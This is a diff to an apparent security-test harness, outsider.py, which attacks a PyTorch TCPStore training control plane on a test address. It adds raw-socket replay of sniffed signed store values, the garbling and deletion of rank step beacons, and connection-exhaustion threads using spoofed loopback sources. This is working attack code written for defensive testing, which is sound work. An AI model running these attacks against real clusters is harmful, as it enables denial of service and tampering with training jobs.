@@ -8,10 +8,14 @@ bounded loop for ``--seconds`` against the one address it is given, and writes a
 
     python tests/security/outsider.py 127.0.0.1:29400 forge --seconds 10 --report /tmp/forge.json
     python tests/security/outsider.py 127.0.0.1:29400 pickle --marker /tmp/pwned --report /tmp/pickle.json
+    python tests/security/outsider.py 127.0.0.1:29400 replay,beacons,pulse --sniffed /tmp/sniffed.json
 
 ``--marker`` names the file the crafted pickles create when anyone unpickles them: if it exists afterwards, the
-attacker's code ran. The security test tier (``tests/security/test_outsider.py``) and the real-control-plane
-tier (run as a pod in another namespace) both drive this program.
+attacker's code ran. ``--sniffed`` names what a stranger who watches the pod network knows without any secret
+(store values are signed, not encrypted): key names with the values that went by (base64), and the agent's pulse
+address; the ``replay``, ``beacons`` and ``pulse`` attacks use it. The security test tier
+(``tests/security/test_outsider.py``) and the real-control-plane tier (run as a pod in another namespace) both drive
+this program.
 """
 
 from __future__ import annotations
@@ -31,12 +35,17 @@ import signal
 import socket
 import struct
 import sys
+import threading
 import time
 from collections.abc import Callable, Iterator
 from typing import Any, Optional, Union
 
-ATTACKS = ("list", "forge", "pickle", "delete", "flood", "raw")
-"""The attacks in the order ``all`` runs them."""
+ALL = ("list", "forge", "pickle", "delete", "flood", "raw")
+"""The attacks in the order ``all`` runs them: those that need nothing but the store's address."""
+CLIENT_ATTACKS = ("list", "forge", "pickle", "delete", "flood")
+"""The attacks of a TCPStore client (the others write on the wire themselves)."""
+ATTACKS = (*ALL, "idle", "replay", "beacons", "pulse")
+"""Every attack; the last three use what was sniffed (``--sniffed``)."""
 
 CONTROL_NAMES = (
     "signal",
@@ -52,6 +61,8 @@ CONTROL_NAMES = (
 """The control channel's key names under ``disttrain/`` (api/control.py names them in public)."""
 CONTROL_DIR = "disttrain/"
 RENDEZVOUS_MARK = "torch.rendezvous."
+BEACON_MARK = "disttrain/beacon/"
+"""The ranks' step beacons (api/control.py names them in public), which the agent's stall rule reads."""
 FLOOD_VALUE_BYTES = 8 * 1024 * 1024
 """The libuv TCPStore server's largest value: the most one ``set`` can make the server hold."""
 MAX_GENERATION = 2**31 - 1
@@ -433,6 +444,27 @@ def _wire_set(key: bytes, size: int) -> bytes:
     return b"\x01" + _u64(len(key)) + key + _u64(size)
 
 
+VALIDATE = b"\x00" + struct.pack("<I", 0x3C85F7CE)
+"""What torch's client sends first on every connection (command 0, its magic number): torch's server takes no
+other request before it."""
+
+
+def _wire_key(key: str) -> bytes:
+    """``key`` as torch's client names it on the wire (it puts a ``/`` before every key a caller gives)."""
+    return b"/" + key.encode()
+
+
+def _wire_set_value(key: str, value: bytes) -> bytes:
+    """A whole TCPStore ``set`` of ``value`` under ``key``, as torch's client sends it."""
+    return _wire_set(_wire_key(key), len(value)) + value
+
+
+def _wire_delete(key: str) -> bytes:
+    """A TCPStore ``delete_key`` (command 8) of ``key``, as torch's client sends it."""
+    wire = _wire_key(key)
+    return b"\x08" + _u64(len(wire)) + wire
+
+
 RAW_REQUESTS = {
     # what each row of the table sent, as torch's client would have (queue_push 14, append 9, get 3)
     "queue": lambda: b"".join(
@@ -445,10 +477,10 @@ RAW_REQUESTS = {
 }
 
 
-def attack_raw(outsider: Outsider, seconds: float, hold: int) -> None:
+def attack_raw(outsider: Outsider, seconds: float, hold: int, names: tuple[str, ...] = tuple(RAW_REQUESTS)) -> None:
     """Without a TCPStore client: hold ``hold`` idle connections to the port, and meanwhile send each abuse of the
-    table raw, on fresh connections, without reading (what a stranger does to torch's server). Counts how many bytes
-    went out before the port closed each connection."""
+    table named in ``names`` raw, on fresh connections, without reading (what a stranger does to torch's server).
+    Counts how many bytes went out before the port closed each connection."""
     held: list[socket.socket] = []
     for _ in range(hold):
         try:
@@ -456,30 +488,156 @@ def attack_raw(outsider: Outsider, seconds: float, hold: int) -> None:
             outsider.report.ops["held"] += 1
         except OSError as exc:
             outsider.report.error("hold", exc)
-    payloads = {name: make() for name, make in RAW_REQUESTS.items()}
+    payloads = {name: RAW_REQUESTS[name]() for name in names}
     for _ in deadline_loop(outsider, seconds):
         for name, payload in payloads.items():
-            try:
-                sock = socket.create_connection((outsider.host, outsider.port), timeout=2)
-            except OSError as exc:
-                outsider.report.error(name, exc)
-                continue
-            try:
-                sent = sock.send(payload[: 4 * 1024 * 1024])  # what the port takes without a pause
-                outsider.report.bytes_sent += sent
-                outsider.report.ops[name] += 1
-                sock.settimeout(3.0)
-                while sock.recv(65536):  # the greeting, then the close
-                    pass
-                outsider.report.ops[f"{name}-closed"] += 1
-            except OSError as exc:
-                outsider.report.ops[f"{name}-closed"] += isinstance(exc, (ConnectionResetError, BrokenPipeError))
-                outsider.report.error(name, exc)
-            finally:
-                sock.close()
+            raw_send(outsider, name, payload)
+        if not payloads:
+            time.sleep(0.1)
     outsider.report.ops["held_at_end"] = sum(1 for sock in held if _still_open(sock))
     for sock in held:
         sock.close()
+
+
+def raw_send(outsider: Outsider, name: str, payload: bytes) -> None:
+    """Send ``payload`` on a fresh connection to the store port, after the validation torch's client sends, without
+    reading, then read until the port closes it: ops ``name`` (sent) and ``name-closed`` (closed by the other
+    side)."""
+    try:
+        sock = socket.create_connection((outsider.host, outsider.port), timeout=2)
+    except OSError as exc:
+        outsider.report.error(name, exc)
+        return
+    try:
+        head = VALIDATE + payload[:65536]  # no copy of an 8 MiB payload
+        sent = sock.send(head)
+        outsider.report.bytes_sent += sent
+        outsider.report.ops[name] += 1
+        if sent == len(head) and len(payload) > 65536:  # the rest, as much as the port takes without a pause
+            outsider.report.bytes_sent += sock.send(memoryview(payload)[65536 : 4 * 1024 * 1024])
+        sock.settimeout(3.0)
+        while sock.recv(65536):  # the greeting, then the close
+            pass
+        outsider.report.ops[f"{name}-closed"] += 1
+    except OSError as exc:
+        outsider.report.ops[f"{name}-closed"] += isinstance(exc, (ConnectionResetError, BrokenPipeError))
+        outsider.report.error(name, exc)
+    finally:
+        sock.close()
+
+
+@dataclasses.dataclass
+class Sniffed:
+    """What a stranger watching the pod network saw go by: store keys with their (signed, not encrypted) values,
+    and where the agent's pulse is served."""
+
+    values: dict[str, bytes]
+    pulse: Optional[tuple[str, int]] = None
+
+    @classmethod
+    def load(cls, path: Optional[str]) -> Sniffed:
+        if not path:
+            return cls({})
+        data = json.loads(pathlib.Path(path).read_text())
+        values = {str(k): base64.b64decode(v) for k, v in (data.get("values") or {}).items()}
+        pulse = None
+        if data.get("pulse"):
+            host, _, port = str(data["pulse"]).rpartition(":")
+            pulse = (host.strip("[]"), int(port))
+        return cls(values, pulse)
+
+
+def attack_replay(outsider: Outsider, seconds: float, sniffed: Sniffed) -> None:
+    """Write back every sniffed value, genuine and validly signed when it went by (an older directive while a
+    reform is in flight), on the wire as torch's client sends a ``set``, until ``seconds`` pass. (A TCPStore client
+    would spend seconds on each connection the front refuses at its first ping: the client attacks show that.)"""
+    keys = sorted(k for k in sniffed.values if BEACON_MARK not in k)
+    for _ in deadline_loop(outsider, seconds):
+        for key in keys:
+            raw_send(outsider, "replay-raw", _wire_set_value(key, sniffed.values[key]))
+            outsider.report.target("replay", key)
+            outsider.report.ops["replay"] += 1
+        time.sleep(0.02)
+
+
+def attack_beacons(outsider: Outsider, seconds: float, sniffed: Sniffed) -> None:
+    """Garble, delete and replay the ranks' sniffed step beacons (what left a healthy rank behind its peers in the
+    stall rule's eyes), on the wire as torch's client sends them, until ``seconds`` pass."""
+    keys = sorted(k for k in sniffed.values if BEACON_MARK in k)
+    for round_ in deadline_loop(outsider, seconds):
+        for key in keys:
+            value = sniffed.values[key]
+            if round_ % 3 == 0:
+                raw_send(outsider, "beacons-raw", _wire_set_value(key, garbled(value)))
+            elif round_ % 3 == 1:
+                raw_send(outsider, "beacons-raw", _wire_delete(key))
+            else:
+                raw_send(outsider, "beacons-raw", _wire_set_value(key, value))
+            outsider.report.target("beacons", key)
+            outsider.report.ops["beacons"] += 1
+        time.sleep(0.02)
+
+
+class Holder(threading.Thread):
+    """Holds ``count`` connections to ``address``, from ``sources`` source addresses on a loopback target
+    (``127.0.x.y``, as many strangers would), opening new ones as fast as old ones are closed, until stopped. On the
+    pulse port it is what kept the operator from linking again after its link broke; on the store port, what kept
+    replacement workers out. It opens at most ``RATE`` connections a second: enough to take every place a closed
+    one leaves (unproven ones are closed after seconds), while its own CPU, on a test machine shared with the job,
+    does not starve the job. Counts what it opened and how many the other side closed."""
+
+    SOURCES = 16
+    RATE = 100
+    PERIOD_S = 0.05
+
+    def __init__(self, name: str, address: tuple[str, int], count: int) -> None:
+        super().__init__(name=f"{name}-holder", daemon=True)
+        self.address = address
+        self.count = count
+        self.stop_event = threading.Event()
+        self.counts: collections.Counter[str] = collections.Counter()
+        self.most_held = 0
+
+    def _source(self, n: int) -> Optional[str]:
+        if not self.address[0].startswith("127."):
+            return None
+        return f"127.0.{2 + n // 250}.{n % 250 + 1}"
+
+    def run(self) -> None:
+        held: list[socket.socket] = []
+        n = 0
+        while not self.stop_event.is_set():
+            open_now = [sock for sock in held if _still_open(sock)]
+            self.counts["closed"] += len(held) - len(open_now)
+            for sock in held:
+                if sock not in open_now:
+                    sock.close()
+            held = open_now
+            budget = int(self.RATE * self.PERIOD_S)
+            while len(held) < self.count and budget > 0 and not self.stop_event.is_set():
+                budget -= 1
+                sock = socket.socket()
+                sock.settimeout(1.0)
+                source = self._source(n % self.SOURCES)
+                n += 1
+                try:
+                    if source:
+                        sock.bind((source, 0))
+                    sock.connect(self.address)
+                except OSError:
+                    self.counts["refused"] += 1
+                    sock.close()
+                    break
+                held.append(sock)
+                self.counts["opened"] += 1
+            self.most_held = max(self.most_held, len(held))
+            self.stop_event.wait(self.PERIOD_S)
+        for sock in held:
+            sock.close()
+
+    def stop(self) -> None:
+        self.stop_event.set()
+        self.join(timeout=10)
 
 
 def _still_open(sock: socket.socket) -> bool:
@@ -495,8 +653,58 @@ def _still_open(sock: socket.socket) -> bool:
         return False
 
 
-def run(outsider: Outsider, attack: str, seconds: float, marker: str, max_bytes: int) -> None:
-    attacks = ATTACKS if attack == "all" else tuple(attack.split(","))
+@dataclasses.dataclass(frozen=True)
+class Plan:
+    """How the attacks go, beside which ones."""
+
+    seconds: float
+    marker: str
+    max_bytes: int
+    sniffed: Sniffed
+    raw: tuple[str, ...] = tuple(RAW_REQUESTS)
+    """The abuses the ``raw`` attack sends."""
+    hold: int = 1000
+    """The idle connections the ``raw`` and ``idle`` attacks hold."""
+    hold_until: str = ""
+    """A file: ``pulse`` and ``idle`` go on holding after the other attacks until it exists."""
+
+
+HOLD_UNTIL_MAX_S = 180.0
+"""The longest the holders wait for ``--hold-until`` after the other attacks."""
+
+
+def run(outsider: Outsider, attack: str, plan: Plan) -> None:
+    """The attacks one after the other, each for ``plan.seconds``; meanwhile ``pulse`` holds the pulse port and
+    ``idle`` holds ``plan.hold`` connections to the store port (for ``seconds`` when they are the only ones; until
+    ``plan.hold_until`` exists when it is given)."""
+    attacks = ALL if attack == "all" else tuple(attack.split(","))
+    holders: dict[str, Holder] = {}
+    if "pulse" in attacks and plan.sniffed.pulse is not None:
+        holders["pulse"] = Holder("pulse", plan.sniffed.pulse, 128)
+    if "idle" in attacks:
+        holders["idle"] = Holder("idle", (outsider.host, outsider.port), plan.hold)
+    phases = {}
+    for name, holder in holders.items():
+        holder.start()
+        phases[name] = {"attack": name, "start": time.time(), "end": 0.0, "ops": 0}
+        outsider.report.phases.append(phases[name])
+    attacks = tuple(name for name in attacks if name not in holders) or ("hold",)
+    try:
+        _run_in_turn(outsider, attacks, plan)
+        if holders and plan.hold_until:
+            until = time.monotonic() + HOLD_UNTIL_MAX_S
+            while not os.path.exists(plan.hold_until) and time.monotonic() < until:
+                time.sleep(0.1)
+    finally:
+        for name, holder in holders.items():
+            holder.stop()
+            outsider.report.ops.update({f"{name}-{k}": v for k, v in holder.counts.items()})
+            outsider.report.ops[f"{name}-most-held"] = holder.most_held
+            phases[name].update(end=time.time(), ops=holder.counts["opened"])
+
+
+def _run_in_turn(outsider: Outsider, attacks: tuple[str, ...], plan: Plan) -> None:
+    seconds, sniffed = plan.seconds, plan.sniffed
     for name in attacks:
         ops_before = sum(outsider.report.ops.values())
         started = time.time()
@@ -506,13 +714,19 @@ def run(outsider: Outsider, attack: str, seconds: float, marker: str, max_bytes:
             elif name == "forge":
                 attack_forge(outsider, seconds)
             elif name == "pickle":
-                attack_pickle(outsider, seconds, marker)
+                attack_pickle(outsider, seconds, plan.marker)
             elif name == "delete":
                 attack_delete(outsider, seconds)
             elif name == "raw":
-                attack_raw(outsider, seconds, hold=1000)
+                attack_raw(outsider, seconds, plan.hold, plan.raw)
+            elif name == "replay":
+                attack_replay(outsider, seconds, sniffed)
+            elif name == "beacons":
+                attack_beacons(outsider, seconds, sniffed)
+            elif name == "hold":  # the pulse holder alone
+                time.sleep(seconds)
             else:
-                attack_flood(outsider, seconds, max_bytes)
+                attack_flood(outsider, seconds, plan.max_bytes)
         except TimeUp:
             outsider.report.ops["time_up"] += 1
         finally:
@@ -541,6 +755,23 @@ def parse_args(argv: Optional[list[str]] = None) -> argparse.Namespace:
     )
     parser.add_argument("--report", help="write the JSON report here")
     parser.add_argument(
+        "--raw",
+        default=",".join(RAW_REQUESTS),
+        help="the abuses the raw attack sends, joined by commas, or 'none' (default: all of %(default)s)",
+    )
+    parser.add_argument(
+        "--hold", type=int, default=1000, help="idle connections the raw and idle attacks hold (default 1000)"
+    )
+    parser.add_argument(
+        "--hold-until",
+        help="a file: the pulse and idle attacks go on holding after the others until it exists (at most 180 s)",
+    )
+    parser.add_argument(
+        "--sniffed",
+        help="JSON of what was seen on the network: {'values': {key: base64 value}, 'pulse': 'HOST:PORT'}, read "
+        "when the attack starts (replay, beacons and pulse use it)",
+    )
+    parser.add_argument(
         "--go-file",
         help="import torch, then wait until this file exists and attack the HOST:PORT it holds when the address is "
         "'-' (a test starts the outsider before the job, so that importing torch on a loaded machine neither delays "
@@ -556,6 +787,15 @@ def parse_args(argv: Optional[list[str]] = None) -> argparse.Namespace:
     unknown = [a for a in args.attack.split(",") if a not in ATTACKS] if args.attack != "all" else []
     if unknown:
         parser.error(f"attack={args.attack!r}: {', '.join(unknown)} not among {', '.join(ATTACKS)} (or all)")
+    args.raw = () if args.raw == "none" else tuple(args.raw.split(","))
+    wrong = [name for name in args.raw if name not in RAW_REQUESTS]
+    if wrong:
+        parser.error(f"--raw={','.join(args.raw)}: {', '.join(wrong)} not among {', '.join(RAW_REQUESTS)} (or none)")
+    if not 0 <= args.hold <= 10_000:
+        parser.error(f"--hold={args.hold} is not between 0 and 10000")
+    sniffing = [a for a in args.attack.split(",") if a in ("replay", "beacons", "pulse")]
+    if sniffing and not args.sniffed:
+        parser.error(f"attack={args.attack!r}: {', '.join(sniffing)} need --sniffed (what the outsider saw)")
     if args.address == "-":
         if not args.go_file:
             parser.error("address='-' (read from the go file) needs --go-file")
@@ -593,10 +833,13 @@ def main(argv: Optional[list[str]] = None) -> int:
     report.started_at = time.time()
     start = time.monotonic()
     try:  # the report is written whatever ends the attack (SIGTERM included), the first connection too
-        if args.attack != "raw":
+        if args.attack == "all" or set(args.attack.split(",")) & set(CLIENT_ATTACKS):
             outsider.call("check", ["outsider/connect"])  # connect before the clock starts
             report.started_at, start = time.time(), time.monotonic()
-        run(outsider, args.attack, args.seconds, args.marker, int(args.max_flood_mb * 1024 * 1024))
+        max_bytes = int(args.max_flood_mb * 1024 * 1024)
+        sniffed = Sniffed.load(args.sniffed)
+        plan = Plan(args.seconds, args.marker, max_bytes, sniffed, args.raw, args.hold, args.hold_until or "")
+        run(outsider, args.attack, plan)
     finally:
         report.seconds = round(time.monotonic() - start, 3)
         report.prefixes = prefixes_of(report.keys_seen)
